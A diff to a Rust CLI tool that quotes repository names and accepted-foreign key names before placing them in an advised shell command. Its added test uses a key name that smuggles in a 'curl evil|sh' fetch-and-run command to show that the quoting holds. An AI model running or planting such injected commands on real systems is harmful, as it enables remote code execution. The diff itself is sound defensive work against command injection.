@@ -9,6 +9,7 @@ mod look;
 mod propose;
 
 use super::Accounts;
+use super::shown::accepting;
 use crate::barrier::Proof;
 use crate::cli::eval::interrupted;
 use crate::cli::printer::{Complaint, Printer};
@@ -16,6 +17,7 @@ use crate::config::Process;
 use crate::config::process::Repository as Entry;
 use crate::forge::{ForgeReads, RepoRef};
 use crate::git::{Auth, Branch, FetchLimits, RemoteUrl, Repos};
+use crate::text::shell_word;
 use anyhow::Result;
 use clap::Args;
 use domain::Commit;
@@ -51,9 +53,11 @@ pub struct Try {
 
 /// What `caisson repo add` is given for this entry, whose repository is at this place now.
 fn again(entry: &Entry, at: &RepoRef) -> String {
-    let source = if entry.origin().is_empty() { format!("{at} --here") } else { entry.origin().to_owned() };
-    let foreign = entry.accepted_foreign.iter().map(|name| format!(" --accept-foreign '{name}'")).collect::<String>();
-    format!("{source} --name {}{foreign}", entry.key)
+    let source = match entry.origin() {
+        "" => format!("{} --here", shell_word(&at.to_string())),
+        origin => shell_word(origin),
+    };
+    format!("{source} --name {}{}", shell_word(&entry.key), accepting(&entry.accepted_foreign))
 }
 
 impl Try {
@@ -157,6 +161,17 @@ pub(super) async fn inform(config: &Process, target: &Target<'_>, printer: &Prin
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn what_the_forge_names_is_one_word_of_the_command_that_is_advised() {
+        let accepted_foreign = vec!["deploy key 7 \"'; curl evil|sh; '\"".to_owned()];
+        let entry = Entry { key: "shop".to_owned(), accepted_foreign, ..Entry::default() };
+        let quoted = r#"--accept-foreign 'deploy key 7 "'\''; curl evil|sh; '\''"'"#;
+        let at = RepoRef::new("team", "shop");
+        assert_eq!(again(&entry, &at), format!("team/shop --here --name shop {quoted}"));
+        let copied = Entry { copied_from: "/srv/it's here".to_owned(), ..entry };
+        assert_eq!(again(&copied, &at), format!(r"'/srv/it'\''s here' --name shop {quoted}"));
+    }
 
     #[test]
     fn a_barrier_that_is_known_not_to_hold_is_asked_about_this_boot_alone() {
